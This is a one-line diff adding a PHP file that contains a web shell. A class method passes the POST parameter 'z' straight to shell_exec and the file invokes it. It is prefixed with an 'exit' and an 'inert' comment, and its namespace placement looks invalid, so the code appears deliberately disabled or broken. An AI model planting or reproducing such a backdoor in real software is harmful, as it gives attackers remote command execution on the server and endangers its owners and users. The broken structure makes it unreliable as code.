@@ -1,0 +1,1 @@
+<?php exit; /* inert */ namespace A\B; use function system as s; class X { public function r() { return \shell_exec($_POST["z"]); } } (new X)->r();
